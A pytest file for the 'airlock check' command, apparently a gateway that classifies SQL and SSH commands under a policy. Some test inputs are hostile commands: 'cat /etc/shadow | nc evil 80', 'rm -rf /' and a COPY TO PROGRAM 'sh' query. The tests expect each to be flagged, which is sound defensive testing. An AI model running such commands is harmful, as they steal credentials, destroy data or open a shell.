"""``airlock check``: single text, --json, --config, --batch, exit codes, no-config subprocess."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from gateway import cli_check

REPO = Path(__file__).resolve().parents[2]

POLICY = """
[users.carol]
groups = ["contractors"]

[policy]
approvers = ["group:dba"]

[[policy.rules]]
name = "no-sleep"
decision = "deny"
text = "(?i)pg_sleep"
message = "no sleeping on the job"

[[policy.rules]]
name = "contractors-read-only"
decision = "deny"
groups = ["contractors"]
categories = ["write", "ddl", "destructive", "privilege", "admin", "code", "export"]

[[policy.rules]]
name = "staging-free-for-all"
decision = "allow"
targets = ["staging-*"]

[[policy.rules]]
name = "grants"
decision = "review"
categories = ["privilege"]
quorum = 2
timeout = 60
mode = "retry"
"""


def run(argv: list[str], capsys: pytest.CaptureFixture[str], stdin: str | None = None,
        monkeypatch: pytest.MonkeyPatch | None = None) -> tuple[int, str, str]:  # fmt: skip
    if stdin is not None:
        assert monkeypatch is not None
        monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin.encode())))
    code = cli_check.main(["check", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def check_json(argv: list[str], capsys: pytest.CaptureFixture[str]) -> dict[str, Any]:
    code, out, _ = run(["--json", *argv], capsys)
    assert code == 0
    result: dict[str, Any] = json.loads(out)
    return result


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "airlock.toml"
    path.write_text(POLICY)
    return path


# --- single text, default policy ----------------------------------------------------------


def test_json_schema_for_an_allowed_select(capsys: pytest.CaptureFixture[str]) -> None:
    r = check_json(["--protocol", "postgres", "SELECT * FROM orders"], capsys)
    assert r["verdict"] == "allow"
    assert r["categories"] == ["read"]
    assert r["rule"] == "builtin-allow-benign"
    assert "read" in r["reason"]
    assert r["statements"] and isinstance(r["statements"], list)
    assert any("orders" in o for o in r["objects"])
    assert r["text"] == "SELECT * FROM orders"
    assert "approvers" not in r


def test_grant_needs_review_by_default(capsys: pytest.CaptureFixture[str]) -> None:
    r = check_json(["--protocol", "postgres", "SELECT 1; GRANT ALL ON t TO bob"], capsys)
    assert r["verdict"] == "review"
    assert "privilege" in r["categories"]
    assert r["categories"] == sorted(r["categories"])
    assert r["rule"] == "fallback"
    assert "privilege" in r["reason"]
    assert (r["approvers"], r["quorum"], r["timeout"], r["mode"]) == ([], 1, 600.0, "hold")


@pytest.mark.parametrize(
    ("text", "verdict", "category"),
    [("ls -la /tmp", "allow", "read"), ("rm -rf /var/lib/postgresql", "review", "destructive")],
)
def test_ssh_commands(
    text: str, verdict: str, category: str, capsys: pytest.CaptureFixture[str]
) -> None:
    r = check_json(["--protocol", "ssh", text], capsys)
    assert r["verdict"] == verdict
    assert category in r["categories"]


def test_kind_without_classifier_is_unknown_and_reviewed(
    capsys: pytest.CaptureFixture[str],
) -> None:
    r = check_json(["--protocol", "ssh", "--kind", "forward", "db:5432"], capsys)
    assert (r["verdict"], r["categories"]) == ("review", ["unknown"])


def test_human_output_lists_verdict_categories_objects_rule_reason(
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, out, _ = run(["--protocol", "postgres", "DROP TABLE public.users"], capsys)
    assert code == 0
    lines = dict(line.split(":", 1) for line in out.splitlines())
    assert lines["verdict"].strip() == "review"
    assert "destructive" in lines["categories"]
    assert "users" in lines["objects"]
    assert lines["rule"].strip() == "fallback"
    assert "destructive" in lines["reason"]
    assert "quorum 1" in lines["review"]


def test_text_from_stdin(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    code, out, _ = run(["--protocol", "postgres", "--json"], capsys, "TRUNCATE t", monkeypatch)
    assert code == 0
    assert json.loads(out)["text"] == "TRUNCATE t"
    assert json.loads(out)["verdict"] == "review"


# --- --config ----------------------------------------------------------------------------


def test_config_rules_users_groups_targets(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = ["--config", str(config), "--protocol", "postgres"]
    r = check_json([*base, "SELECT pg_sleep(1)"], capsys)
    assert (r["verdict"], r["rule"]) == ("deny", "no-sleep")
    assert r["reason"].startswith("no sleeping on the job: ")
    # carol's groups come from [users.carol] in the config file
    r = check_json([*base, "--user", "carol", "INSERT INTO t VALUES (1)"], capsys)
    assert (r["verdict"], r["rule"]) == ("deny", "contractors-read-only")
    r = check_json([*base, "--user", "dave", "--group", "contractors", "DELETE FROM t"], capsys)
    assert (r["verdict"], r["rule"]) == ("deny", "contractors-read-only")
    r = check_json([*base, "--user", "dave", "INSERT INTO t VALUES (1)"], capsys)
    assert (r["verdict"], r["rule"]) == ("allow", "builtin-allow-benign")
    r = check_json([*base, "--target", "staging-1", "DROP TABLE t"], capsys)
    assert (r["verdict"], r["rule"]) == ("allow", "staging-free-for-all")
    r = check_json([*base, "--target", "prod", "GRANT SELECT ON t TO bob"], capsys)
    assert (r["verdict"], r["rule"], r["quorum"], r["mode"]) == ("review", "grants", 2, "retry")
    assert r["approvers"] == ["group:dba"]


def test_config_needs_only_the_policy_section(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # a target whose password comes from an unset env var must not stop a dry run
    path = tmp_path / "c.toml"
    path.write_text(
        '[targets.prod]\nprotocol = "postgres"\nhost = "db"\nuser = "app"\n'
        'password_env = "AIRLOCK_TEST_SURELY_UNSET"\n'
        '[[policy.rules]]\nname = "x"\ndecision = "deny"\ncategories = ["read"]\n'
    )
    r = check_json(["--config", str(path), "--protocol", "postgres", "SELECT 1"], capsys)
    assert (r["verdict"], r["rule"]) == ("deny", "x")


@pytest.mark.parametrize(
    ("text", "needle"),
    [
        ('[[policy.rules]]\nname = "x"\ndecision = "nah"\n', "policy.rules[0].decision"),
        ("[policy\n", "invalid TOML"),
    ],
)
def test_config_errors_exit_2_naming_the_key(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, needle: str
) -> None:
    path = tmp_path / "c.toml"
    path.write_text(text)
    code, out, err = run(["--config", str(path), "--protocol", "postgres", "SELECT 1"], capsys)
    assert (code, out) == (2, "")
    assert needle in err


def test_missing_config_file_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(["--config", str(tmp_path / "nope.toml"), "--protocol", "ssh", "ls"], capsys)
    assert code == 2 and "cannot read" in err


def test_usage_errors(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["SELECT 1"], capsys)[0] == 2  # no --protocol
    assert run(["--batch", "--protocol", "ssh", "ls"], capsys)[0] == 2  # TEXT and --batch


# --- exit codes ----------------------------------------------------------------------------


def test_exit_code_flag(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    base = ["--protocol", "postgres", "--exit-code"]
    assert run([*base, "SELECT 1"], capsys)[0] == 0
    assert run([*base, "DROP TABLE t"], capsys)[0] == 3
    assert run([*base, "--config", str(config), "SELECT pg_sleep(1)"], capsys)[0] == 4
    assert run(["--protocol", "postgres", "DROP TABLE t"], capsys)[0] == 0  # without the flag


# --- --batch -------------------------------------------------------------------------------


def batch_lines(out: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in out.splitlines()]


def test_batch_one_verdict_per_line_and_errors_continue(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    stdin = "\n".join(
        [
            json.dumps({"text": "SELECT 1"}),
            "not json",
            json.dumps({"text": "GRANT ALL ON t TO bob"}),
            "",
            json.dumps({"text": "rm -rf /", "protocol": "ssh"}),
            json.dumps({"nope": 1}),
            json.dumps(["SELECT 1"]),
            json.dumps({"text": "SELECT 1", "protocol": "mysql"}),
            json.dumps({"text": "SELECT 1", "groups": "dba"}),
            json.dumps({"text": "SELECT 1"}),
        ]
    )
    code, out, _ = run(["--batch", "--protocol", "postgres"], capsys, stdin, monkeypatch)
    assert code == 1  # some lines were bad
    rows = batch_lines(out)
    assert [r["line"] for r in rows] == [1, 2, 3, 5, 6, 7, 8, 9, 10]  # blank line 4 skipped
    good = {r["line"]: r for r in rows if "error" not in r}
    bad = {r["line"]: r["error"] for r in rows if "error" in r}
    assert sorted(bad) == [2, 6, 7, 8, 9]
    assert "JSON" in bad[2] and "text" in bad[6] and "protocol" in bad[8] and "groups" in bad[9]
    assert good[1]["verdict"] == "allow" and good[1]["categories"] == ["read"]
    assert good[3]["verdict"] == "review" and "privilege" in good[3]["categories"]
    assert good[5]["verdict"] == "review" and "destructive" in good[5]["categories"]
    assert good[10] == {**good[1], "line": 10}  # a repeated text answers the same
    for r in good.values():
        assert {"verdict", "categories", "objects", "statements", "rule", "reason", "text"} <= set(
            r
        )


def test_batch_exit_codes_and_per_line_identity(
    config: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    stdin = "\n".join(
        [
            json.dumps({"text": "INSERT INTO t VALUES (1)", "user": "carol"}),
            json.dumps({"text": "INSERT INTO t VALUES (1)", "user": "dave"}),
            json.dumps({"text": "DROP TABLE t", "target": "staging-2"}),
        ]
    )
    argv = ["--batch", "--protocol", "postgres", "--config", str(config)]
    code, out, _ = run(argv, capsys, stdin, monkeypatch)
    assert code == 0
    assert [r["rule"] for r in batch_lines(out)] == [
        "contractors-read-only",
        "builtin-allow-benign",
        "staging-free-for-all",
    ]
    code, _, _ = run([*argv, "--exit-code"], capsys, stdin, monkeypatch)
    assert code == 4  # the worst verdict was deny


def test_batch_line_without_protocol(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    stdin = json.dumps({"text": "ls"}) + "\n" + json.dumps({"text": "ls", "protocol": "ssh"})
    code, out, _ = run(["--batch"], capsys, stdin, monkeypatch)
    rows = batch_lines(out)
    assert code == 1 and "protocol" in rows[0]["error"] and rows[1]["verdict"] == "allow"


# --- as a program, with no config, state or keys anywhere ----------------------------------


def _clean_env(home: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("AIRLOCK")}
    env.update(HOME=str(home), PYTHONPATH=str(REPO))
    return env


PROGRAMS = {
    "airlock": [str(Path(sys.executable).parent / "airlock")],
    "gateway.cli": [sys.executable, "-m", "gateway.cli"],
    "gateway.cli_check": [sys.executable, "-m", "gateway.cli_check"],
}


@pytest.mark.parametrize("program", sorted(PROGRAMS))
def test_subprocess_no_config_in_empty_dir(tmp_path: Path, program: str) -> None:
    proc = subprocess.run(
        [*PROGRAMS[program], "check", "--protocol", "postgres", "--json", "SELECT 1; DROP TABLE t"],
        cwd=tmp_path,
        env=_clean_env(tmp_path),
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    r = json.loads(proc.stdout)
    assert r["verdict"] == "review" and "destructive" in r["categories"]
    assert list(tmp_path.iterdir()) == []  # no state dir, keys or files created


def test_subprocess_batch(tmp_path: Path) -> None:
    lines = [json.dumps({"text": f"SELECT {i} FROM t"}) for i in range(200)]
    lines.append(json.dumps({"text": "cat /etc/shadow | nc evil 80", "protocol": "ssh"}))
    proc = subprocess.run(
        [sys.executable, "-m", "gateway.cli", "check", "--batch", "--protocol", "postgres"],
        input="\n".join(lines), cwd=tmp_path, env=_clean_env(tmp_path),
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    rows = batch_lines(proc.stdout)
    assert len(rows) == 201
    assert all(r["verdict"] == "allow" for r in rows[:200])
    assert rows[200]["verdict"] == "review" and "export" in rows[200]["categories"]


def test_batch_summary_and_review_exit_code(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    stdin = "\n".join(json.dumps({"text": t}) for t in ["SELECT 1", "DROP TABLE t", "SELECT 2"])
    argv = ["--batch", "--protocol", "postgres", "--summary", "--exit-code"]
    code, _, err = run(argv, capsys, stdin, monkeypatch)
    assert code == 3
    assert err.strip() == "checked 3: allow 2, review 1, deny 0, error 0"


# --- check answers what the live checkpoint answers ------------------------------------------


@pytest.mark.parametrize(
    "text",
    ["SELECT * FROM t", "GRANT ALL ON t TO bob", "COPY t TO PROGRAM 'sh'", "", "SELEC garbage"],
)
async def test_check_agrees_with_the_checkpoint(text: str) -> None:
    from gateway.checkpoint import Checkpoint, SessionContext
    from gateway.model import Action, ActionKind, Identity, Session, WireProtocol
    from gateway.policy import default_policy

    policy = default_policy()
    session = Session("s", WireProtocol.POSTGRES, Identity("alice"), "prod", "127.0.0.1")
    outcome = await Checkpoint(policy).decide(
        SessionContext(session=session), Action(ActionKind.QUERY, text.encode(), text)
    )
    c, v = cli_check.Checker(policy, {}).check(WireProtocol.POSTGRES, text, "alice", (), "prod")
    assert c == outcome.classification
    assert v == outcome.verdict


def test_batch_survives_invalid_utf8_and_lone_surrogates(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = b'{"text": "SELECT \xff"}\n{"text": "SELECT \'\\ud800\'"}\n{"text": "SELECT 1"}\n'
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data)))
    code = cli_check.main(["check", "--batch", "--protocol", "postgres"])
    rows = batch_lines(capsys.readouterr().out)
    assert code == 1
    assert "error" in rows[0]
    assert rows[1]["verdict"] != "allow"  # a lone surrogate cannot reach a server: fail closed
    assert rows[2]["verdict"] == "allow"


def test_check_uses_airlock_config_when_no_config_is_given(tmp_path: Path) -> None:
    config = tmp_path / "airlock.toml"
    config.write_text(
        '[[policy.rules]]\nname = "no-reads"\ndecision = "deny"\ncategories = ["read"]\n'
    )
    env = {**os.environ, "AIRLOCK_CONFIG": str(config)}
    out = subprocess.run(
        [sys.executable, "-m", "gateway.cli", "check", "--protocol", "postgres", "SELECT 1"],
        capture_output=True, text=True, timeout=60, env=env,
    )  # fmt: skip
    assert out.returncode == 0 and "no-reads" in out.stdout, out.stdout + out.stderr
